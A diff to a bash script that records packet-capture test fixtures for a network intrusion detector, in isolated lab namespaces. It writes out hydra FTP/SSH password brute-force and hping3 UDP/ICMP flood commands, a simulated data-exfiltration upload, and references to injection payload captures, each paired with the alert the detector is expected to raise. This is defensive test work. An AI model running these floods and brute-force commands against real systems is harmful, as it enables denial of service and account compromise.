@@ -47,6 +47,14 @@ benign-mixed.pcapng|pcapng|-|-|benign http (curl) and 2 ssh sessions captured by
 http-injection.pcap|pcap|-|-|curl requests whose request target, Host and User-Agent carry raw terminal-hostile bytes (CSI 2J and 31m, OSC 52 clipboard write, OSC 8 link, CR and BS overwrites, U+202E bidi override, C1 CSI 0x9b) to the victim's http.server
 http-attacks.pcap|pcap|-|-|curl requests to the victim's http.server, one per payload-signature class (SQL injection, XSS, path traversal with --path-as-is, command injection, shellshock User-Agent, log4shell header, sqlmap User-Agent) plus 3 benign requests
 hydra-ssh.pcap|pcap|-|-|hydra -l root -P (48 wrong passwords) -t 4 ssh://10.77.0.2: SSH password brute force against the victim's sshd (root may not log in with a password, so every attempt fails)
+hydra-ftp.pcap|pcap|-|-|hydra -l admin -P (40 wrong passwords) -t 4 ftp://10.77.0.2: FTP password brute force against a pyftpdlib server in the victim (user admin exists, every password is wrong)
+hping3-udpflood.pcap|pcap|-|-|hping3 --udp --flood -p 7777 from one real source (10.77.0.1), first 12000 packets: the UDP datagrams and the victim's ICMP port unreachables
+hping3-icmpflood.pcap|pcap|-|-|hping3 --icmp --flood from one real source (10.77.0.1), first 6000 packets: echo requests and the victim's echo replies
+exfil-upload.pcap|pcap|-|-|the victim (home net 10.77.0.2/32) uploads 50 MB with curl -T to a PUT server on 10.77.0.1:8000 (outside); veth MTU 9000, tcpdump -s 96 (headers only, pcap orig_len keeps the wire length)
+benign-browsing.pcap|pcap|-|-|the victim browses a site on 10.77.0.1:80 (HTTP/1.1 keep-alive): 12 page loads of HTML plus CSS/JS/images with browser headers, query strings, cookies and some 404s, over IPv4 and IPv6
+benign-download.pcap|pcap|-|-|the victim downloads a 25 MB .deb-like file over HTTP from 10.77.0.1:8000 (outside) plus its small index files; veth MTU 9000, tcpdump -s 96
+benign-dns.pcap|pcap|-|-|dnsmasq in the victim answers about 150 queries from 10.77.0.1 (dig: A, AAAA, MX, TXT, SRV, PTR, NXDOMAIN, some over TCP and IPv6)
+benign-ssh-password.pcap|pcap|-|-|5 ssh sessions (key auth) and one password login that fails once (wrong password, sshpass) then succeeds, user snoopy on the victim's sshd
 EOF
 )
 
@@ -60,8 +68,25 @@ is_injection() { [[ " ${INJECTION_FIXTURES[*]} " == *" $1 "* ]]; }
 fixture_alerts() {
 	case $1 in
 	hydra-ssh.pcap) echo '[{"attack_type":"SSH_BRUTE_FORCE","attacker_ip":"10.77.0.1"}]' ;;
+	hping3-synflood.pcap) echo '[{"attack_type":"SYN_FLOOD","attacker_ip":"10.77.0.1"}]' ;;
+	# a DDOS names the top spoofed source, which is random: "*" = any attacker
+	hping3-synflood-randsrc.pcap) echo '[{"attack_type":"DDOS","attacker_ip":"*"}]' ;;
 	http-attacks.pcap) printf '%s\n' SQL_INJECTION XSS PATH_TRAVERSAL COMMAND_INJECTION SHELLSHOCK LOG4SHELL SCANNER_USER_AGENT |
 		jq -Rcn '[inputs | {attack_type: ., attacker_ip: "10.77.0.1"}]' ;;
+	hydra-ftp.pcap) echo '[{"attack_type":"FTP_BRUTE_FORCE","attacker_ip":"10.77.0.1"}]' ;;
+	hping3-udpflood.pcap) echo '[{"attack_type":"UDP_FLOOD","attacker_ip":"10.77.0.1"}]' ;;
+	hping3-icmpflood.pcap) echo '[{"attack_type":"ICMP_FLOOD","attacker_ip":"10.77.0.1"}]' ;;
+	# the outside receiver is the "attacker" of an exfiltration alert
+	exfil-upload.pcap) echo '[{"attack_type":"DATA_EXFILTRATION","attacker_ip":"10.77.0.1"}]' ;;
+	esac
+}
+# Extra command-line arguments a replay of the fixture needs (manifest "args", absent elsewhere):
+# fixtures whose victim is the home host name it, so the exfiltration detector (which needs a home
+# net) and the inbound/outbound direction are exercised.
+fixture_args() {
+	case $1 in
+	exfil-upload.pcap | benign-browsing.pcap | benign-download.pcap | benign-dns.pcap | benign-ssh-password.pcap)
+		echo '["--home-net","10.77.0.2/32"]' ;;
 	esac
 }
 fixture_field() { awk -F'|' -v n="$1" -v f="$2" '$1 == n { print $f }' <<<"$FIXTURE_TABLE"; }
@@ -82,7 +107,7 @@ cap_packets() { capinfos -M -T -r -c "$1" | cut -f2; }
 cap_encap() { capinfos -M -T -r -E "$1" | cut -f2; }
 
 write_manifest() {
-	local name f ip scan entries=() ps ports alerts
+	local name f ip scan entries=() ps ports alerts args kept
 	for name in $(fixture_names); do
 		f=$FIX/$name
 		[[ -f $f ]] || { echo "manifest: $name not recorded yet, left out" >&2; continue; }
@@ -98,9 +123,17 @@ write_manifest() {
 			'{file: $file, format: $format, expect: {port_scan: $ps}, packets: $packets,
 			  encapsulation: $encap, ports_probed: $ports, description: $desc}')")
 		if is_injection "$name"; then entries[-1]=$(jq -c '. + {injection: true}' <<<"${entries[-1]}"); fi
+		# every fixture says which other alerts it expects; [] = none (benign, or a port scan only)
 		alerts=$(fixture_alerts "$name")
-		if [[ -n $alerts ]]; then entries[-1]=$(jq -c --argjson a "$alerts" '.expect.alerts = $a' <<<"${entries[-1]}"); fi
+		entries[-1]=$(jq -c --argjson a "${alerts:-[]}" '.expect.alerts = $a' <<<"${entries[-1]}")
+		args=$(fixture_args "$name")
+		if [[ -n $args ]]; then entries[-1]=$(jq -c --argjson a "$args" '. + {args: $a}' <<<"${entries[-1]}"); fi
 	done
+	# Entries of fixtures this script does not record (derived ones, scripts/derive-fixtures.sh) are kept.
+	if [[ -f $FIX/manifest.json ]]; then
+		while IFS= read -r kept; do entries+=("$kept"); done < <(jq -c --arg names "$(fixture_names)" \
+			'($names | split("\n")) as $n | .[] | select(.file as $f | $n | index($f) | not) | .expect.alerts //= []' "$FIX/manifest.json")
+	fi
 	printf '%s\n' "${entries[@]}" | jq -s '.' >"$FIX/manifest.json.tmp"
 	mv "$FIX/manifest.json.tmp" "$FIX/manifest.json"
 	echo "wrote $FIX/manifest.json (${#entries[@]} fixtures)"
@@ -164,6 +197,7 @@ snp_require_tools ip tcpdump dumpcap editcap capinfos tshark nmap hping3 curl ss
 # Services
 
 SSH_DIR=""
+SSH_USER_PASSWORD=correct-horse-battery-staple
 start_sshd() {
 	SSH_DIR=$SNP_TMP/ssh
 	mkdir -p "$SSH_DIR"
@@ -195,7 +229,18 @@ EOF
 	# sshd needs its privilege-separation directory (normally made by the service unit).
 	[[ -d /run/sshd ]] || install -d -m 755 /run/sshd
 	/usr/sbin/sshd -t -f "$SSH_DIR/sshd_config"
-	ip netns exec "$SNP_NS_V" /usr/sbin/sshd -D -e -f "$SSH_DIR/sshd_config" 2>"$SNP_TMP/sshd.log" 9>&- &
+	# One password user (snoopy) for benign-ssh-password.pcap: sshd runs in a private mount
+	# namespace where /etc/passwd and /etc/shadow are bind-mounted copies with that user added;
+	# the host's own files are never written.
+	mkdir -p "$SNP_TMP/home-snoopy"
+	chown 4242:4242 "$SNP_TMP/home-snoopy"
+	{ cat /etc/passwd; echo "snoopy:x:4242:4242:snoopy test user:$SNP_TMP/home-snoopy:/bin/sh"; } >"$SSH_DIR/passwd"
+	{ cat /etc/shadow; echo "snoopy:$(openssl passwd -6 "$SSH_USER_PASSWORD"):19800:0:99999:7:::"; } >"$SSH_DIR/shadow"
+	chmod 644 "$SSH_DIR/passwd"
+	chmod 600 "$SSH_DIR/shadow"
+	ip netns exec "$SNP_NS_V" unshare --mount --propagation private sh -c \
+		'mount --bind "$0" /etc/passwd && mount --bind "$1" /etc/shadow && shift && exec "$@"' \
+		"$SSH_DIR/passwd" "$SSH_DIR/shadow" /usr/sbin/sshd -D -e -f "$SSH_DIR/sshd_config" 2>"$SNP_TMP/sshd.log" 9>&- &
 	SNP_PIDS+=($!)
 	snp_wait_listen "$SNP_NS_V" 22
 }
@@ -641,6 +686,256 @@ rec_http_attacks_pcap() {
 	cap_stop
 	snp_log "  $(tshark -n -r "$OUT/http-attacks.pcap" -Y http.request 2>/dev/null | wc -l) HTTP requests"
 	finish http-attacks.pcap
+}
+
+# --- FTP brute force ------------------------------------------------------------------------
+# pyftpdlib (python3-pyftpdlib from apt) in the victim on port 21, one user (admin) whose
+# password is not in hydra's list: every attempt is a real "530 Login incorrect".
+rec_hydra_ftp_pcap() {
+	local pw=$SNP_TMP/hydra-ftp-passwords.txt i ftp_pid
+	snp_require_tools hydra
+	/usr/bin/python3 -c 'import pyftpdlib' 2>/dev/null || snp_die "hydra-ftp.pcap needs python3-pyftpdlib (apt-get install -y python3-pyftpdlib)"
+	mkdir -p "$SNP_TMP/ftp-root"
+	cat >"$SNP_TMP/ftp-server.py" <<'PY'
+import logging, sys
+from pyftpdlib.authorizers import DummyAuthorizer
+from pyftpdlib.handlers import FTPHandler
+from pyftpdlib.servers import FTPServer
+logging.basicConfig(level=logging.WARNING)
+auth = DummyAuthorizer()
+auth.add_user("admin", "not-in-the-list-7Qx", sys.argv[1], perm="elr")
+FTPHandler.authorizer = auth
+FTPHandler.banner = "snoopy test ftp ready"
+FTPHandler.auth_failed_timeout = 0.1  # pyftpdlib waits 3 s after each wrong password by default
+server = FTPServer(("0.0.0.0", 21), FTPHandler)
+print("ftp listening", flush=True)
+server.serve_forever()
+PY
+	ip netns exec "$SNP_NS_V" /usr/bin/python3 "$SNP_TMP/ftp-server.py" "$SNP_TMP/ftp-root" >"$SNP_TMP/ftp.log" 2>&1 9>&- &
+	ftp_pid=$!
+	SNP_PIDS+=("$ftp_pid")
+	snp_wait_listen "$SNP_NS_V" 21
+	for ((i = 1; i <= 40; i++)); do printf 'wrong-password-%02d\n' "$i"; done >"$pw"
+	tcpdump_start hydra-ftp.pcap
+	(cd "$SNP_TMP" && snp_in_a timeout 120 hydra -I -l admin -P "$pw" -t 4 -o /dev/null "ftp://$SNP_IP_V" 2>&1 |
+		sed -n '/\[DATA\]\|valid password\|completed/s/^/    /p') || true
+	cap_stop
+	kill -TERM "$ftp_pid" 2>/dev/null || true
+	wait "$ftp_pid" 2>/dev/null || true
+	snp_log "  $(tshark -n -r "$OUT/hydra-ftp.pcap" -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0 && tcp.dstport == 21' 2>/dev/null | wc -l) connections to port 21," \
+		"$(tshark -n -r "$OUT/hydra-ftp.pcap" -Y 'ftp.response.code == 530' 2>/dev/null | wc -l) x 530"
+	finish hydra-ftp.pcap
+}
+
+# --- UDP and ICMP floods ----------------------------------------------------------------------
+rec_proto_flood() { # NAME KEEP hping3-options… — 1 s flood from the real attacker address
+	local name=$1 keep=$2
+	shift 2
+	tcpdump_start "$name.full" -B 65536
+	snp_in_a timeout 1 hping3 --flood "$@" "$SNP_IP_V" 2>&1 | sed 's/^/    /' || true
+	cap_stop
+	snp_log "  full capture: $(cap_packets "$OUT/$name.full") packets, keeping 1-$keep"
+	editcap -F pcap -r "$OUT/$name.full" "$OUT/$name" "1-$keep"
+	rm -f "$OUT/$name.full"
+	snp_log "  $(tshark -n -r "$OUT/$name" -Y "ip.src == $SNP_IP_A" 2>/dev/null | wc -l) packets from the attacker"
+	finish "$name"
+}
+# UDP: the threshold is 5000 datagrams a second, and about half of the capture is the victim's
+# port unreachables, so keep 12000 packets.
+rec_hping3_udpflood_pcap() { rec_proto_flood hping3-udpflood.pcap 12000 --udp -p 7777; }
+rec_hping3_icmpflood_pcap() { rec_proto_flood hping3-icmpflood.pcap 6000 --icmp; }
+
+# --- big transfers: headers only, jumbo frames ------------------------------------------------
+# The exfiltration detector counts wire bytes (the pcap record's orig_len), so a capture cut at
+# 96 bytes still carries the whole transfer's size; MTU 9000 (jumbo frames) on the veth keeps
+# the packet count, and so the file, small.
+veth_mtu() { # MTU — both ends of the veth
+	ip -n "$SNP_NS_A" link set "$SNP_IF_A" mtu "$1"
+	ip -n "$SNP_NS_V" link set "$SNP_IF_V" mtu "$1"
+}
+
+PY_SERVER_PID=""
+start_outside_http() { # ROOT — http.server (HTTP/1.1, keep-alive) on 10.77.0.1:8000 / [fd77::1]:8000
+	ip netns exec "$SNP_NS_A" /usr/bin/python3 -m http.server 8000 --protocol HTTP/1.1 --bind :: --directory "$1" \
+		>"$SNP_TMP/outside-http.log" 2>&1 9>&- &
+	PY_SERVER_PID=$!
+	SNP_PIDS+=("$PY_SERVER_PID")
+	snp_wait_listen "$SNP_NS_A" 8000
+}
+stop_py_server() {
+	kill -TERM "$PY_SERVER_PID" 2>/dev/null || true
+	wait "$PY_SERVER_PID" 2>/dev/null || true
+	PY_SERVER_PID=""
+}
+
+rec_exfil_upload_pcap() {
+	cat >"$SNP_TMP/put-server.py" <<'PY'
+"""PUT sink: reads the request body, discards it, answers 201."""
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+class Sink(BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def do_PUT(self):
+        left = int(self.headers.get("Content-Length", "0"))
+        while left > 0:
+            chunk = self.rfile.read(min(left, 1 << 20))
+            if not chunk:
+                break
+            left -= len(chunk)
+        self.send_response(201)
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+    def log_message(self, *args):
+        pass
+ThreadingHTTPServer(("0.0.0.0", 8000), Sink).serve_forever()
+PY
+	head -c 50000000 /dev/urandom >"$SNP_TMP/customer-db.tar.gz"
+	ip netns exec "$SNP_NS_A" /usr/bin/python3 "$SNP_TMP/put-server.py" >"$SNP_TMP/put.log" 2>&1 9>&- &
+	PY_SERVER_PID=$!
+	SNP_PIDS+=("$PY_SERVER_PID")
+	snp_wait_listen "$SNP_NS_A" 8000
+	veth_mtu 9000
+	tcpdump_start exfil-upload.pcap -s 96
+	snp_in_v curl --noproxy '*' -sS -o /dev/null --max-time 60 -T "$SNP_TMP/customer-db.tar.gz" \
+		-w '    %{http_code} PUT %{url_effective}: %{size_upload} bytes up\n' "http://$SNP_IP_A:8000/upload/customer-db.tar.gz"
+	cap_stop
+	veth_mtu 1500
+	stop_py_server
+	rm -f "$SNP_TMP/customer-db.tar.gz"
+	snp_log "  wire bytes from the victim: $(tshark -n -r "$OUT/exfil-upload.pcap" -Y "ip.src == $SNP_IP_V" -T fields -e frame.len 2>/dev/null | awk '{s += $1} END {print s}')"
+	finish exfil-upload.pcap
+}
+
+rec_benign_download_pcap() {
+	local root=$SNP_TMP/mirror
+	mkdir -p "$root/debian/dists/stable" "$root/debian/pool/main/s/snoopy"
+	printf 'Origin: Test\nLabel: Test\nSuite: stable\nCodename: bookworm\n' >"$root/debian/dists/stable/InRelease"
+	head -c 40000 /dev/urandom >"$root/debian/dists/stable/Packages.xz"
+	head -c 25000000 /dev/urandom >"$root/debian/pool/main/s/snoopy/snoopy-data_1.0-1_all.deb"
+	start_outside_http "$root"
+	veth_mtu 9000
+	tcpdump_start benign-download.pcap -s 96
+	# one keep-alive connection, as apt does: the index files, then the package
+	snp_in_v curl --noproxy '*' -sS --max-time 60 -A 'Debian APT-HTTP/1.3 (2.6.1)' \
+		-w '    %{http_code} GET %{url_effective}: %{size_download} bytes\n' \
+		-o /dev/null "http://$SNP_IP_A:8000/debian/dists/stable/InRelease" \
+		-o /dev/null "http://$SNP_IP_A:8000/debian/dists/stable/Packages.xz" \
+		-o /dev/null "http://$SNP_IP_A:8000/debian/pool/main/s/snoopy/snoopy-data_1.0-1_all.deb"
+	cap_stop
+	veth_mtu 1500
+	stop_py_server
+	finish benign-download.pcap
+}
+
+# --- web browsing ----------------------------------------------------------------------------
+# A small site "outside" (10.77.0.1:8000 is taken by nothing else here; the site is served on
+# port 80 by a second http.server in HTTP/1.1 mode so connections stay open between requests).
+rec_benign_browsing_pcap() {
+	local root=$SNP_TMP/site i page b assets=()
+	mkdir -p "$root/static" "$root/img" "$root/news" "$root/blog/2024/05"
+	printf 'body{font-family:sans-serif;margin:0 auto;max-width:60em}nav a{padding:0 .5em}\n%.0s' {1..40} >"$root/static/site.css"
+	printf 'document.addEventListener("DOMContentLoaded",()=>{for(const a of document.querySelectorAll("a"))a.rel="noopener";});\n%.0s' {1..60} >"$root/static/app.js"
+	for i in 1 2 3 4 5 6; do head -c $((6000 + i * 3000)) /dev/urandom >"$root/img/photo-$i.jpg"; done
+	head -c 1150 /dev/urandom >"$root/favicon.ico"
+	for page in index about contact news/index news/linux-6-9-released news/rust-in-the-kernel blog/2024/05/tuning-tcp blog/2024/05/why-ipv6; do
+		printf '<!doctype html><html><head><title>%s</title><link rel="stylesheet" href="/static/site.css"><script src="/static/app.js?v=1.4.2"></script></head><body><nav><a href="/">Home</a><a href="/news/">News</a><a href="/about.html">About</a></nav><h1>%s</h1>%s</body></html>\n' \
+			"$page" "$page" "$(printf '<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit; it&#39;s "quoted" & <em>fine</em>.</p>%.0s' {1..30})" >"$root/$page.html"
+	done
+	ip netns exec "$SNP_NS_A" /usr/bin/python3 -m http.server 80 --protocol HTTP/1.1 --bind :: --directory "$root" \
+		>"$SNP_TMP/site-http.log" 2>&1 9>&- &
+	PY_SERVER_PID=$!
+	SNP_PIDS+=("$PY_SERVER_PID")
+	snp_wait_listen "$SNP_NS_A" 80
+	tcpdump_start benign-browsing.pcap
+	browse() { # BASE PAGE [ASSET…] — one page load on one keep-alive connection, browser headers
+		local base=$1 ref=$1/ args=() u
+		shift
+		for u in "$@"; do args+=(-o /dev/null "$base$u"); done
+		snp_in_v curl --noproxy '*' -g -sS --max-time 10 \
+			-A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' \
+			-H 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' \
+			-H 'Accept-Language: en-GB,en;q=0.5' -H "Referer: $ref" \
+			-b 'session=6f1c2a9e0b7d4c3f; theme=dark; consent=analytics%3Dno%26ads%3Dno' \
+			-w '    %{http_code} %{url_effective} (conn %{num_connects})\n' "${args[@]}"
+	}
+	b=http://$SNP_IP_A
+	assets=(/static/site.css '/static/app.js?v=1.4.2' /favicon.ico)
+	browse "$b" / "${assets[@]}" /img/photo-1.jpg /img/photo-2.jpg
+	browse "$b" /about.html "${assets[@]}" /img/photo-3.jpg
+	browse "$b" /news/ "${assets[@]}"
+	browse "$b" /news/index.html "${assets[@]}" /img/photo-4.jpg
+	browse "$b" '/news/linux-6-9-released.html?utm_source=rss&utm_medium=feed&utm_campaign=kernel' "${assets[@]}" /img/photo-5.jpg
+	browse "$b" /news/rust-in-the-kernel.html "${assets[@]}" /img/photo-6.jpg
+	browse "$b" '/search?q=select+a+good+linux+distro&lang=en&page=2' "${assets[@]}"
+	browse "$b" '/search?q=%22union+station%22+cafe+%26+bar' "${assets[@]}"
+	browse "$b" /blog/2024/05/tuning-tcp.html "${assets[@]}" /img/photo-2.jpg
+	browse "$b" '/blog/2024/05/why-ipv6.html#comments' "${assets[@]}"
+	browse "$b" /contact.html "${assets[@]}" /missing-logo.png
+	browse "http://[$SNP_IP6_A]" / "${assets[@]}" /img/photo-1.jpg
+	cap_stop
+	stop_py_server
+	finish benign-browsing.pcap
+}
+
+# --- DNS -------------------------------------------------------------------------------------
+rec_benign_dns_pcap() {
+	local q=$SNP_TMP/dns-queries.txt dns_pid n i
+	snp_require_tools dnsmasq dig
+	# dnsmasq (dnsmasq-base from apt: no system service) answers from its own records only
+	ip netns exec "$SNP_NS_V" dnsmasq --keep-in-foreground --no-resolv --no-hosts --no-poll --user=root \
+		--listen-address="$SNP_IP_V" --listen-address="$SNP_IP6_V" --bind-interfaces --port=53 --pid-file="$SNP_TMP/dnsmasq.pid" \
+		--local=/home.test/ --domain=home.test \
+		--host-record=www.home.test,10.77.0.2,fd77::2 --host-record=mail.home.test,10.77.0.2 \
+		--host-record=nas.home.test,10.77.0.20 --host-record=printer.home.test,10.77.0.21 \
+		--host-record=router.home.test,10.77.0.254,fd77::fe --host-record=laptop.home.test,10.77.0.1,fd77::1 \
+		--mx-host=home.test,mail.home.test,10 --txt-record=home.test,"v=spf1 mx -all" \
+		--srv-host=_imaps._tcp.home.test,mail.home.test,993 --cname=files.home.test,nas.home.test \
+		--ptr-record=2.0.77.10.in-addr.arpa,www.home.test --ptr-record=1.0.77.10.in-addr.arpa,laptop.home.test \
+		>"$SNP_TMP/dnsmasq.log" 2>&1 9>&- &
+	dns_pid=$!
+	SNP_PIDS+=("$dns_pid")
+	for ((i = 0; i < 50; i++)); do ip netns exec "$SNP_NS_V" ss -Hlun 'sport = :53' | grep -q . && break; sleep 0.1; done
+	: >"$q"
+	for n in www mail nas printer router laptop files; do
+		printf '%s.home.test A\n%s.home.test AAAA\n' "$n" "$n" >>"$q"
+	done
+	printf 'home.test MX\nhome.test TXT\n_imaps._tcp.home.test SRV\nnothere.home.test A\nold-pc.home.test AAAA\n' >>"$q"
+	tcpdump_start benign-dns.pcap
+	for ((i = 1; i <= 6; i++)); do # six rounds, as clients re-resolving when TTLs expire
+		snp_in_a dig @"$SNP_IP_V" +tries=1 +time=2 +noall +answer -f "$q" | wc -l | sed "s/^/    round $i: answer lines: /"
+		snp_in_a dig @"$SNP_IP_V" +tries=1 +time=2 +short -x 10.77.0.2 >/dev/null
+		snp_in_a dig @"$SNP_IP_V" +tries=1 +time=2 +short -x 10.77.0.1 >/dev/null
+	done
+	snp_in_a dig @"$SNP_IP_V" +tcp +tries=1 +time=2 +short www.home.test A | sed 's/^/    tcp: /'
+	snp_in_a dig @"$SNP_IP_V" +tcp +tries=1 +time=2 +short home.test TXT | sed 's/^/    tcp: /'
+	snp_in_a dig @"$SNP_IP6_V" +tries=1 +time=2 +short www.home.test AAAA | sed 's/^/    ipv6: /'
+	snp_in_a dig @"$SNP_IP6_V" +tries=1 +time=2 +short nas.home.test A | sed 's/^/    ipv6: /'
+	cap_stop
+	kill -TERM "$dns_pid" 2>/dev/null || true
+	wait "$dns_pid" 2>/dev/null || true
+	snp_log "  $(tshark -n -r "$OUT/benign-dns.pcap" -Y 'dns.flags.response == 0' 2>/dev/null | wc -l) queries"
+	finish benign-dns.pcap
+}
+
+# --- SSH with a password typo -------------------------------------------------------------------
+# The victim's sshd runs in its own mount namespace where /etc/passwd and /etc/shadow carry one
+# extra user (snoopy, password SSH_USER_PASSWORD): see start_sshd. The host's files are untouched.
+rec_benign_ssh_password_pcap() {
+	local i
+	snp_require_tools sshpass
+	tcpdump_start benign-ssh-password.pcap
+	for ((i = 1; i <= 5; i++)); do ssh_session; done
+	ssh_password_login wrong-password-typo && snp_die "the wrong password was accepted"
+	echo "    wrong password: refused (as it should be)"
+	ssh_password_login "$SSH_USER_PASSWORD" || snp_die "the right password was refused"
+	cap_stop
+	finish benign-ssh-password.pcap
+}
+
+ssh_password_login() { # PASSWORD — one password login as snoopy from the attacker namespace
+	snp_in_a timeout 30 sshpass -p "$1" ssh -F /dev/null -o PreferredAuthentications=password -o PubkeyAuthentication=no \
+		-o NumberOfPasswordPrompts=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
+		"snoopy@$SNP_IP_V" 'id -un; uptime' 2>"$SNP_TMP/ssh-pw.err" | sed 's/^/    password login: /'
+	return "${PIPESTATUS[0]}"
 }
 
 # ---------------------------------------------------------------------------------------------
